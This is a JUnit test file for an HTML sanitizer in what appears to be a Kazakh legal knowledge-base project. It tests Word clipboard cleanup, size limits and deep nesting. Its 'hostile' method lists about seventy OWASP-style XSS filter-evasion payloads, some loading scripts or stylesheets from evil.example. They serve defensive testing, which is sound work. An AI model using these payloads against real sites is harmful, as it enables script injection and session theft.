package kz.senim.kb.markup;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class RichTextTest {

    private static final Set<String> SMALL_SET =
            Set.of("p", "br", "strong", "em", "h3", "ul", "ol", "li", "table", "tbody", "tr", "th", "td", "a", "body");

    @Test
    void keepsParagraphsListsTablesLinksAndEmphasis() {
        String html = "<h3>Сроки</h3><p>До <strong>10</strong> дней,<br><em>иногда</em> 15.</p>"
                + "<ul><li>раз<ul><li>внутри</li></ul></li><li>два</li></ul><ol><li>first</li></ol>"
                + "<table><tbody><tr><th colspan=\"2\">Ә</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>"
                + "<p><a href=\"https://egov.kz/a?b=1&amp;c=2\">egov</a> <a href=\"/acts/K1100000518/ru/138#art_138\">138</a></p>";
        Cleaned cleaned = RichText.clean(html);
        assertThat(cleaned.text().html()).isEqualTo(html.replace("<tbody>", "").replace("</tbody>", ""));
        assertThat(cleaned.dropped()).isEmpty();
        assertThat(cleaned.text().lines())
                .containsExactly(
                        "Сроки", "До 10 дней,", "иногда 15.", "раз", "внутри", "два", "first", "Ә", "1\t2", "egov 138");
    }

    /** Written after OWASP's list of ways around filters. */
    static Stream<String> hostile() {
        return Stream.of(
                "<script>hacked()</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>hacked()</scr</script>ipt>",
                "<<SCRIPT>hacked();//<</SCRIPT>",
                "<script/x>hacked()</script>",
                "<script>hacked()//",
                "<img src=x onerror=hacked()>",
                "<IMG \"\"\"><SCRIPT>hacked()</SCRIPT>\">",
                "<img src=\"javascript:hacked()\">",
                "<img src=`javascript:hacked()`>",
                "<img/src=x/onerror=hacked()>",
                "<svg onload=hacked()>",
                "<svg><script>hacked()</script></svg>",
                "<svg><a xlink:href=\"javascript:hacked()\"><text y=20>x</text></a></svg>",
                "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=hacked()>\">",
                "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
                "<math><mi xlink:href=\"javascript:hacked()\">x</mi></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=hacked()>\">",
                "<template><img src=x onerror=hacked()></template>",
                "<a href=\"javascript:hacked()\">x</a>",
                "<a href=\"JaVaScRiPt:hacked()\">x</a>",
                "<a href=\"jav&#x09;ascript:hacked()\">x</a>",
                "<a href=\"jav\nascript:hacked()\">x</a>",
                "<a href=\" &#14; javascript:hacked()\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hacked()\">x</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hacked()\">x</a>",
                "<a href=\"vbscript:hacked()\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"https://egov.kz\" onclick=hacked() onmouseover=hacked()>x</a>",
                "<a href=\"https://egov.kz\" style=\"position:fixed;inset:0\">x</a>",
                "<a href=\"https://egov.kz\" target=_top ping=\"https://evil.example\">x</a>",
                "<body onload=hacked()>",
                "<body background=\"javascript:hacked()\">",
                "<iframe src=\"javascript:hacked()\"></iframe>",
                "<iframe srcdoc=\"<script>hacked()</script>\"></iframe>",
                "<frameset><frame src=\"javascript:hacked()\"></frameset>",
                "<object data=\"javascript:hacked()\"></object>",
                "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<form action=\"javascript:hacked()\"><input type=submit autofocus onfocus=hacked()></form>",
                "<button formaction=\"javascript:hacked()\">x</button>",
                "<input type=image src=x onerror=hacked()>",
                "<video><source onerror=hacked()></video>",
                "<audio src=x onerror=hacked()>",
                "<details open ontoggle=hacked()>x</details>",
                "<marquee onstart=hacked()>x</marquee>",
                "<meta http-equiv=refresh content=\"0;url=javascript:hacked()\">",
                "<link rel=stylesheet href=\"javascript:hacked()\">",
                "<base href=\"javascript:hacked()//\">",
                "<style>@import'http://evil.example/x.css';</style>",
                "<style>body{background:url(javascript:hacked())}</style>",
                "<p style=\"background:url(javascript:hacked())\">x</p>",
                "<p style=\"width:expression(hacked())\">x</p>",
                "<table background=\"javascript:hacked()\"><td background=\"javascript:hacked()\">x</table>",
                "<div style=\"behavior:url(#default#time2)\" onbegin=hacked()>x</div>",
                "<!--[if gte IE 4]><script>hacked()</script><![endif]-->",
                "<!--><img src=x onerror=hacked()>-->",
                "<![CDATA[<script>hacked()</script>]]>",
                "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">hacked()</x:script>",
                "<p id=\"texts\" name=\"texts\">x</p>",
                "<a name=\"getElementById\" id=\"getElementById\">x</a>",
                "<p>&lt;script&gt;hacked()&lt;/script&gt;</p>",
                "<li><li><p><li></ul></table></td>x",
                "\u0000<scr\u0000ipt>hacked()</scr\u0000ipt>",
                "<xss onclick=hacked() tabindex=1>x</xss>",
                "<isindex action=javascript:hacked() type=image>",
                "<plaintext><img src=x onerror=hacked()>",
                "<textarea><img src=x onerror=hacked()></textarea>",
                "<title><img src=x onerror=hacked()></title>");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void letsNothingThroughThatCouldRun(String html) {
        assertHarmless(RichText.of(html));
    }

    @Test
    void letsNothingThroughWhenAllOfItStandsTogether() {
        assertHarmless(RichText.of(String.join("<p>", hostile().toList())));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<script>x</script><p>ok</p>|SCRIPT",
                "<p onclick=x>ok</p>|SCRIPT",
                "<p style='color:red'>ok</p>|STYLE",
                "<p class=MsoNormal>ok</p>|STYLE",
                "<img src=x>ok|PICTURE",
                "<iframe src=x></iframe>ok|FRAME",
                "<form><input>ok</form>|FORM",
                "<a href='mailto:a@b.kz'>ok</a>|LINK",
                "<table><tr><td><table><tr><td>ok</td></tr></table></td></tr></table>|NESTING",
                "<xss>ok</xss>|OTHER"
            })
    void tellsWhatItDropsAndKeepsTheWords(String html, Dropped kind) {
        Cleaned cleaned = RichText.clean(html);
        assertThat(cleaned.dropped()).containsExactly(kind);
        assertThat(cleaned.text().lines()).containsExactly("ok");
    }

    /** As Word puts it on the clipboard, shortened. */
    @Test
    void makesListsAndTablesOfWhatWordPutsOnTheClipboard() {
        String word = """
                <html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
                <head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm;} --></style>
                <!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]--></head>
                <body lang=RU style='tab-interval:35.4pt'><!--StartFragment-->
                <p class=MsoNormal><b style='mso-bidi-font-weight:normal'>Кімге<o:p></o:p></b></p>
                <p class=MsoListParagraphCxSpFirst style='mso-list:l0 level1 lfo1'><![if !supportLists]><span
                style='font-family:Symbol'><span style='mso-list:Ignore'>·<span>&nbsp;&nbsp; </span></span></span><![endif]>полиция<o:p></o:p></p>
                <p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><span
                style='mso-list:Ignore'>o<span>&nbsp; </span></span>участок<o:p></o:p></p>
                <p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><span
                style='mso-list:Ignore'>·<span>&nbsp; </span></span>суд<o:p></o:p></p>
                <p class=MsoNormal>Ретімен:</p>
                <p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span
                style='mso-list:Ignore'>1.<span>&nbsp; </span></span>бірінші</p>
                <p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span
                style='mso-list:Ignore'>2.<span>&nbsp; </span></span>екінші</p>
                <table class=MsoTableGrid border=1 style='border-collapse:collapse'><tr><td width=100 valign=top
                style='width:75pt'><p class=MsoNormal>МРП<o:p></o:p></p></td><td><p class=MsoNormal>3932</p></td></tr></table>
                <p class=MsoNormal><img width=10 src="file:///C:/x.png" v:shapes="_x0000_i1025"><o:p>&nbsp;</o:p></p>
                <!--EndFragment--></body></html>
                """;
        Cleaned cleaned = RichText.clean(word);
        assertThat(cleaned.text().html().replaceAll("\\s*\\n\\s*", ""))
                .isEqualTo("<p><strong>Кімге</strong></p>"
                        + "<ul><li>полиция<ul><li>участок</li></ul></li><li>суд</li></ul>"
                        + "<p>Ретімен:</p><ol><li>бірінші</li><li>екінші</li></ol>"
                        + "<table><tr><td><p>МРП</p></td><td><p>3932</p></td></tr></table>");
        assertThat(cleaned.dropped()).containsExactly(Dropped.PICTURE, Dropped.STYLE);
    }

    @Test
    void takesFiveMegabytesInItsStride() {
        String pasted = "<p class=MsoNormal style='margin:0cm'><b>Слово</b> за словом <o:p></o:p></p>".repeat(65_000);
        assertThat(pasted.length()).isGreaterThan(4_900_000);
        assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> assertThat(RichText.of(pasted).lines()).hasSize(65_000));
    }

    @ParameterizedTest
    @CsvSource({
        "<table><tr><td>",
        "<ul><li>",
        "<div>",
        "<b>",
        "<p><b><i>",
        "<a href=/x>",
        "<svg>",
        "<x>",
        "<table>",
        "<blockquote>"
    })
    void survivesWhatIsNestedTenThousandTimes(String opening) {
        assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> assertHarmless(RichText.of(opening.repeat(10_000) + "дно")));
    }

    private static void assertHarmless(RichText text) {
        for (Element element : Jsoup.parseBodyFragment(text.html()).body().getAllElements()) {
            assertThat(SMALL_SET).contains(element.normalName());
            for (Attribute attribute : element.attributes()) {
                switch (attribute.getKey()) {
                    case "href" ->
                        assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                                .matches("(https?://|/|[^:]*$).*");
                    case "colspan", "rowspan" ->
                        assertThat(attribute.getValue()).matches("\\d{1,2}");
                    default -> throw new AssertionError(attribute + " in " + text);
                }
            }
        }
        assertThat(RichText.of(text.html())).isEqualTo(text);
        assertThat(RichText.clean(text.html()).dropped()).isEmpty();
    }
}
